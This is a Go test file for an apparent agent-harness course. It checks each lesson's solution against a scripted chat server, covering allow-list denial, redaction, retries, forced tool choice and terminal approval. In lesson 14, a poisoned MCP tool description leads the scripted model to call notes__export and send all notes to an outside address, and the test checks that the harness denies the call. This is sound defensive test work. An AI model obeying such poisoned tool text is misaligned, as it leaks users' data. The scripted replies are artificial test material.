package main

import (
	"bytes"
	"encoding/json"
	"fmt"
	"harnesslab/grader"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"harnesslab/lab"
)

// chatReply is what a scripted server sends back for one request: a status
// and a body in Chat Completions' wire format.
type chatReply struct {
	status int
	body   string
}

// chatStep answers one request, given the request's body.
type chatStep func(body []byte) chatReply

// scriptedChat speaks Chat Completions as a local server would, one step of
// its script per request, in order. A request past the end of the script is
// answered with a text that says so, which no run's output expects.
type scriptedChat struct {
	mu     sync.Mutex
	steps  []chatStep
	bodies [][]byte
}

func (s *scriptedChat) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	body, _ := io.ReadAll(r.Body)
	s.mu.Lock()
	n := len(s.bodies)
	s.bodies = append(s.bodies, body)
	s.mu.Unlock()
	reply := say("the test's script ran out")(body)
	if n < len(s.steps) {
		reply = s.steps[n](body)
	}
	w.Header().Set("content-type", "application/json")
	w.WriteHeader(reply.status)
	io.WriteString(w, reply.body)
}

// answer wraps an assistant message in a Chat Completions reply.
func answer(message string) chatReply {
	return chatReply{http.StatusOK, fmt.Sprintf(`{"choices":[{"message":%s,"finish_reason":"stop"}],"usage":{"prompt_tokens":100,"completion_tokens":10}}`, message)}
}

// say answers with a text.
func say(text string) chatStep {
	content, _ := json.Marshal(text)
	return func([]byte) chatReply {
		return answer(fmt.Sprintf(`{"role":"assistant","content":%s}`, content))
	}
}

// calls answers with tool calls, each written "id name {json arguments}".
func calls(written ...string) chatStep {
	var list []string
	for _, w := range written {
		parts := strings.SplitN(w, " ", 3)
		arguments, _ := json.Marshal(parts[2])
		list = append(list, fmt.Sprintf(`{"id":%q,"type":"function","function":{"name":%q,"arguments":%s}}`, parts[0], parts[1], arguments))
	}
	return func([]byte) chatReply {
		return answer(fmt.Sprintf(`{"role":"assistant","content":null,"tool_calls":[%s]}`, strings.Join(list, ",")))
	}
}

// overloaded fails the request the way a busy server does.
func overloaded([]byte) chatReply {
	return chatReply{http.StatusServiceUnavailable, `{"error":{"message":"The server is overloaded.","type":"server_error"}}`}
}

// userWords summarizes a request the way a careful model would: it keeps
// every sentence the user said, the last message (the request for the
// summary) left out.
func userWords(body []byte) chatReply {
	var request struct {
		Messages []struct{ Role, Content string }
	}
	json.Unmarshal(body, &request)
	var said []string
	for i, m := range request.Messages {
		if m.Role == "user" && i < len(request.Messages)-1 {
			said = append(said, m.Content)
		}
	}
	return say("The user said: " + strings.Join(said, " "))(body)
}

// nameFromRequest answers "What is my name?" from what the request holds,
// as a model does: Ada only if the request still says so.
func nameFromRequest(body []byte) chatReply {
	if bytes.Contains(body, []byte("Ada")) {
		return say("Your name is Ada.")(body)
	}
	return say("I do not know your name.")(body)
}

// forcedTool returns the name of the function a request's tool_choice
// forces, or "" when it forces none.
func forcedTool(body []byte) string {
	var request struct {
		ToolChoice struct {
			Type     string
			Function struct{ Name string }
		} `json:"tool_choice"`
	}
	json.Unmarshal(body, &request)
	if request.ToolChoice.Type != "function" {
		return ""
	}
	return request.ToolChoice.Function.Name
}

// hasToolChoice reports whether a request carries a tool_choice at all.
func hasToolChoice(body []byte) bool {
	var request map[string]json.RawMessage
	json.Unmarshal(body, &request)
	_, ok := request["tool_choice"]
	return ok
}

// whenForced answers with step when the request forces the tool called
// name, as a provider does; a request that leaves the model free gets words
// instead, as a model that may choose often answers.
func whenForced(name string, step chatStep) chatStep {
	return func(body []byte) chatReply {
		if forcedTool(body) != name {
			return say("I fixed the session and the tests pass.")(body)
		}
		return step(body)
	}
}

// onlyLastForces returns the problem with a run's requests when the last
// one does not force the tool called name, or an earlier one carries a
// tool_choice at all: the loop lets the model choose, the ending does not.
func onlyLastForces(name string) func(bodies [][]byte) string {
	return func(bodies [][]byte) string {
		if len(bodies) == 0 {
			return "no request reached the server"
		}
		last := bodies[len(bodies)-1]
		if got := forcedTool(last); got != name {
			return fmt.Sprintf("the last request forces %q, want tool_choice naming %s; it sent:\n%s", got, name, last)
		}
		for i, body := range bodies[:len(bodies)-1] {
			if hasToolChoice(body) {
				return fmt.Sprintf("request %d carries a tool_choice, want none before the ending:\n%s", i+1, body)
			}
		}
		return ""
	}
}

// toolNames returns the names of the tools a request offers, in order.
func toolNames(body []byte) []string {
	var request struct {
		Tools []struct {
			Function struct{ Name string }
		}
	}
	json.Unmarshal(body, &request)
	var names []string
	for _, tool := range request.Tools {
		names = append(names, tool.Function.Name)
	}
	return names
}

// offersEvery returns the problem with a run's requests when one of them
// does not offer exactly the tools called names, in that order.
func offersEvery(names ...string) func(bodies [][]byte) string {
	want := strings.Join(names, " ")
	return func(bodies [][]byte) string {
		for i, body := range bodies {
			if got := strings.Join(toolNames(body), " "); got != want {
				return fmt.Sprintf("request %d offers the tools [%s], want [%s]", i+1, got, want)
			}
		}
		return ""
	}
}

// typeAtTerminal makes text the standard input of the run, as if a person
// typed it, until the test ends.
func typeAtTerminal(t *testing.T, text string) {
	t.Helper()
	path := filepath.Join(t.TempDir(), "typed")
	if err := os.WriteFile(path, []byte(text), 0o644); err != nil {
		t.Fatalf("write the answers to type: %v", err)
	}
	typed, err := os.Open(path)
	if err != nil {
		t.Fatalf("open the answers to type: %v", err)
	}
	stdin := os.Stdin
	os.Stdin = typed
	t.Cleanup(func() {
		os.Stdin = stdin
		typed.Close()
	})
}

// useGoCache points the go commands a run starts at the go command's own
// build cache, unless the environment already names one: an empty cache
// would compile the testing package first, about 20 s here.
func useGoCache(t *testing.T) {
	t.Helper()
	if os.Getenv(lab.EnvGoCacheSeed) != "" || os.Getenv(lab.EnvGoCache) != "" {
		return
	}
	cache, err := exec.Command("go", "env", "GOCACHE").Output()
	if err != nil {
		t.Skipf("no go command to run the module's tests with: %v", err)
	}
	t.Setenv(lab.EnvGoCache, strings.TrimSpace(string(cache)))
}

// lessonRuns are the runs of lessons 05 to 16, each played with the
// lesson's solution against a scripted server, with what its output must
// show (and, for some, must not show, or what the requests must carry): the
// lesson's new piece at work.
var lessonRuns = []struct {
	lesson   string
	steps    []chatStep
	want     []string
	dontWant []string                     // lines a run that worked never prints
	requests func(bodies [][]byte) string // when set, the problem with the requests the server got, "" if none
	stdin    string                       // the answers typed at the terminal, one a line
	asked    []string                     // what the run must ask at the terminal (its standard error)
	goCache  bool                         // the run runs the go command: give it the go command's own build cache
	reason   string
}{
	{
		lesson: "05", steps: []chatStep{
			calls(`call_1 search_reports {"query":"flooding","limit":"20","sort":"newest"}`),
			calls(`call_2 search_reports {"query":"flooding","limit":20}`),
			say("14 reports mention flooding."),
		},
		want: []string{
			"toolResult call_1 (error) ->",
			"refused before it ran: Error:",
			"search_reports ran 1 of the 2 times it was called",
		},
		reason: "the call that breaks the schema gets an error result and never runs",
	},
	{
		lesson: "06", steps: []chatStep{
			calls(`call_1 go_test {"package":"shop/billing"}`),
			calls(`call_2 search {"query":"--- FAIL"}`),
			calls(`call_3 read_lines {"path":"outputs/1.log","offset":500,"limit":5}`),
			say("TestRefund250 fails: got 200, want 401."),
		},
		want: []string{
			"lines cut (offsets ",
			"Full output: outputs/1.log.",
			`toolResult call_2 -> "outputs/1.log:`,
			"kept: outputs/1.log, 1227 lines, the whole test run byte for byte: true",
		},
		reason: "the big output is kept whole, and search and read_lines find the failure in it",
	},
	{
		lesson: "07", steps: []chatStep{
			calls(`call_1 read {"path":"report.md"}`),
			calls(`call_2 send_email {"to":"finance","subject":"Week 12","body":"40 tents reached Kessan."}`),
			calls(`call_3 save_draft {"path":"draft.md","text":"Week 12: 40 tents reached Kessan."}`),
			say("I could not email finance; the summary is in draft.md."),
		},
		want: []string{
			`toolResult call_2 (error) -> "Error: denied by policy: send_email is not on the allow-list`,
			`toolResult call_3 -> "saved draft.md"`,
			"outbox: []",
			"policy log: deny send_email",
		},
		reason: "send_email is denied and logged, the outbox stays empty, the draft is saved",
	},
	{
		lesson: "08", steps: []chatStep{
			calls(`call_1 get_report {"id":"R2"}`),
			say("Kessan has 48,200 people [call_1]."),
		},
		want: []string{
			`toolResult call_1 -> "Kessan, 2026-03-15: 48,200 people.`,
			"guardrails' log: redact",
			"answered after 2 steps",
		},
		reason: "the phone number and e-mail address are redacted before the model sees them, and the log says so",
	},
	{
		lesson: "09", steps: []chatStep{
			overloaded,
			calls(`call_1 send_draft {"to":"ops","text":"The nightly build failed."}`),
			say("Done: the ops team has the draft."),
		},
		want: []string{
			"request 1: refused: 503",
			"the outbox got a request to ops with key draft-key-1\nthe outbox got a request to ops with key draft-key-1\n",
			"drafts sent: 1",
		},
		reason: "Fallback retries the overloaded provider, and the lost reply is sent again with the same key, so one draft goes out",
	},
	{
		lesson: "10", steps: []chatStep{
			calls(`call_1 read {"path":"config.py"}`),
			calls(`call_2 edit {"path":"config.py","old_text":"PORT = 8080","new_text":"PORT = 9090"}`),
			calls(`call_3 read {"path":"config.py"}`),
			calls(`call_4 edit {"path":"config.py","old_text":"PORT = 8080","new_text":"PORT = 9090"}`),
			say("PORT is 9090 now."),
		},
		want: []string{
			"edit refused: Error: config.py changed since you read it",
			"config.py now holds:\nHOST = \"0.0.0.0\"\nPORT = 9090\n",
		},
		reason: "the teammate's change after the first read makes the edit stale; after a second read it keeps both changes",
	},
	{
		lesson: "11", steps: []chatStep{
			calls(`call_a read {"path":"auth/tokens.go"}`, `call_b read {"path":"auth/session.go"}`),
			say("Expired in auth/tokens.go checks it, with a minute of grace."),
		},
		want: []string{
			"the reads finished in this order: auth/session.go, auth/tokens.go",
			"the results went back in this order: call_a, call_b",
		},
		reason: "the two reads run at once, the second finishes first, and the results still follow the calls",
	},
	{
		lesson: "12", steps: []chatStep{
			say("Nice to meet you, Ada."), say("Noted."), say("Noted."), say("Noted."), say("Noted."),
			userWords,
			nameFromRequest,
		},
		want: []string{
			"before compaction: 10 messages",
			"after compaction:  3 messages",
			`the summary: "The user said: My name is Ada.`,
			`assistant -> "Your name is Ada."`,
		},
		reason: "the older turns become the model's summary, and the name survives in it",
	},
	{
		lesson: "13", steps: []chatStep{
			calls(`call_1 read {"path":"auth/session.go"}`),
			calls(`call_2 edit {"path":"auth/session.go","old_text":"10 * time.Minute","new_text":"0"}`),
			calls(`call_3 run_tests {}`),
			say("Fixed: sessions now end on time, and the 14 tests pass."),
			whenForced("submit_result", calls(`call_4 submit_result {"summary":"Removed the grace period so sessions end on time.","files_changed":["auth/session.go"],"tests_passed":true}`)),
		},
		want: []string{
			`toolResult call_3 -> "ok  auth  14 tests passed"`,
			`toolResult call_4 -> "Result received."`,
			"The run ended submitted.\n" +
				`  summary: "Removed the grace period so sessions end on time."` + "\n" +
				`  files changed: ["auth/session.go"]` + "\n" +
				"  tests passed (claimed): true\n",
		},
		dontWant: []string{"problem:"},
		requests: onlyLastForces("submit_result"),
		reason:   "the last request forces submit_result, and the result is read from the call's arguments",
	},
	{
		lesson: "14", steps: []chatStep{
			calls(`call_1 notes__export {"to":"archive@elsewhere.example"}`),
			calls(`call_2 notes__search {"query":"billing"}`),
			say("The billing server listens on port 9090."),
		},
		want: []string{
			`toolResult call_1 (error) -> "Error: denied by policy: notes__export is not on the allow-list; do not ask for it again"`,
			`toolResult call_2 -> "2 matching lines:\nn1: the billing server listens on port 9090\nn3: Ada looks after billing"`,
		},
		dontWant: []string{"all notes sent to"},
		requests: offersEvery("notes__search", "notes__export"),
		reason:   "the notes server's tools arrive through MCP named notes__search and notes__export, and the call the poisoned description asks for is denied and never runs",
	},
	{
		// The run waits its own limit, 3 s, for the page that never answers:
		// the one real wait of these runs.
		lesson: "15", steps: []chatStep{
			calls(`call_1 fetch {"url":"https://status.example.com"}`, `call_2 read {"path":"config.py"}`),
			say("The status page did not answer in time; config.py sets PORT = 8080."),
		},
		want: []string{
			`toolResult call_1 (error) -> "Error: no answer within 3s; the call was abandoned. Ask for less, or try again"`,
			`toolResult call_2 -> "PORT = 8080\nHOST = \"0.0.0.0\"\n"`,
			`assistant -> "The status page did not answer in time; config.py sets PORT = 8080."`,
		},
		reason: "the fetch that never answers gets its timed-out result at the limit, the read still runs, and the run goes on to the answer",
	},
	{
		lesson: "16", steps: []chatStep{
			calls(`call_1 read {"path":"count.go"}`),
			calls(`call_2 edit {"path":"count.go","old_text":"len(strings.Split(text, \" \"))","new_text":"len(strings.Fields(text))"}`),
			calls(`call_3 run_command {"command":"go test ./..."}`),
			say("Fixed: Count splits on runs of spaces now, and go test ./... passes."),
		},
		stdin:   "y\n",
		asked:   []string{`The model asks to run run_command({"command": "go test ./..."}). Allow it? [y/N] `},
		goCache: true,
		want: []string{
			`toolResult call_2 -> "Edited count.go: replaced one place."`,
			`toolResult call_3 -> "exit code 0\nok  \texample.com/wordcount\t0.00s\n"`,
			"Patch ended: answered after 4 requests",
			"its own go test ./... passed: true",
		},
		reason: "the person at the terminal allows go test, which runs for real in a copy of the module and passes after the edit",
	},
}

// TestRunLessons plays each run of lessons 05 to 16 with the lesson's
// solution against a scripted server reached by --base-url, and finds the
// lesson's new piece at work in the output.
func TestRunLessons(t *testing.T) {
	if testing.Short() {
		t.Skip("builds a program per lesson")
	}
	t.Chdir("../..")
	t.Setenv("OPENAI_API_KEY", "")
	for _, c := range lessonRuns {
		t.Run(c.lesson, func(t *testing.T) {
			if c.stdin != "" {
				typeAtTerminal(t, c.stdin)
			}
			if c.goCache {
				useGoCache(t)
			}
			server := &scriptedChat{steps: c.steps}
			srv := httptest.NewServer(server)
			defer srv.Close()
			var stdout, stderr bytes.Buffer
			err := run([]string{"run", c.lesson, generatedSolution(t, c.lesson), "--model", "openai:local", "--base-url", srv.URL}, &stdout, &stderr)
			if err != nil {
				t.Fatalf("labrun run %s: %v\nstdout:\n%s\nstderr:\n%s", c.lesson, err, &stdout, &stderr)
			}
			out := stdout.String()
			for _, want := range c.want {
				if !strings.Contains(out, want) {
					t.Errorf("%s, but the output lacks %q:\n%s", c.reason, want, out)
				}
			}
			for _, want := range c.asked {
				if strings.Count(stderr.String(), want) != 1 {
					t.Errorf("%s, but the run did not ask %q once at the terminal; it printed there:\n%s", c.reason, want, &stderr)
				}
			}
			for _, bad := range c.dontWant {
				if strings.Contains(out, bad) {
					t.Errorf("%s, but the output holds %q:\n%s", c.reason, bad, out)
				}
			}
			if c.requests != nil {
				if problem := c.requests(server.bodies); problem != "" {
					t.Errorf("%s, but %s", c.reason, problem)
				}
			}
			if got := len(server.bodies); got != len(c.steps) {
				t.Errorf("the server got %d requests, want %d, one per step of its script:\n%s", got, len(c.steps), out)
			}
		})
	}
}

// generatedSolution returns the folder of lesson number's reference
// solution, generated from the chain's source in solutions/.
func generatedSolution(t *testing.T, number string) string {
	t.Helper()
	return generatedSolutionIn(t, ".", number)
}

// generatedSolutionIn is generatedSolution for the kit that holds dir.
func generatedSolutionIn(t *testing.T, dir, number string) string {
	t.Helper()
	kit, err := grader.FindKit(dir)
	if err != nil {
		t.Fatal(err)
	}
	l, err := kit.Lesson(number)
	if err != nil {
		t.Fatal(err)
	}
	sol, err := l.SolutionDir()
	if err != nil {
		t.Fatal(err)
	}
	return sol
}
